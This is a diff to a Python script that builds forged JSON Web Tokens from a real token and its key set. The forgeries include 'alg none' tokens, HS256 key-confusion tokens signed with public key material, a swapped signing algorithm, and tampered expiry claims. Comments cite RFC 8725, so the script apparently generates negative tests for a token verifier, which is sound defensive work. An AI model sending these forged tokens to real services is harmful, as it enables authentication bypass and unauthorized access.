@@ -24,7 +24,8 @@ def unb64(text: str) -> bytes:
 token, jwks_text = sys.stdin.read().split("\n", 1)
 header_b64, payload_b64, signature_b64 = token.split(".")
 header, payload = json.loads(unb64(header_b64)), json.loads(unb64(payload_b64))
-jwk = json.loads(jwks_text)["keys"][0]
+jwk = next(key for key in json.loads(jwks_text)["keys"] if key["kid"] == header["kid"])
+public_member = jwk.get("n") or jwk["x"]
 
 
 def encode(h: dict, p: dict) -> str:
@@ -41,10 +42,14 @@ forged = {
     # RFC 8725 §2.1: "none" must never be accepted.
     "alg_none": encode(dict(header, alg="none"), payload) + ".",
     "alg_none_keeping_signature": encode(dict(header, alg="none"), payload) + "." + signature_b64,
-    # Key confusion: HMAC keyed with the public key an attacker can read from the JWKS.
-    "alg_hs256_public_key_bytes": hs256(hs_header, payload, unb64(jwk["x"])),
-    "alg_hs256_public_key_text": hs256(hs_header, payload, jwk["x"].encode()),
+    # Key confusion: HMAC keyed with the public key an attacker can read from the JWKS
+    # (the RSA modulus or the curve point, the PEM in `value`, the whole JWK).
+    "alg_hs256_public_key_bytes": hs256(hs_header, payload, unb64(public_member)),
+    "alg_hs256_public_key_text": hs256(hs_header, payload, public_member.encode()),
+    "alg_hs256_pem_value": hs256(hs_header, payload, jwk["value"].encode()),
     "alg_hs256_jwk_json": hs256(hs_header, payload, json.dumps(jwk).encode()),
+    # Another asymmetric algorithm named over the genuine signature.
+    "alg_swapped": encode(dict(header, alg="ES256" if header["alg"] != "ES256" else "RS256"), payload) + "." + signature_b64,
     # The genuine signature over changed claims.
     "huge_exp": encode(header, dict(payload, exp=10**20)) + "." + signature_b64,
     "exp_float": encode(header, dict(payload, exp=float(payload["exp"]) + 0.5)) + "." + signature_b64,
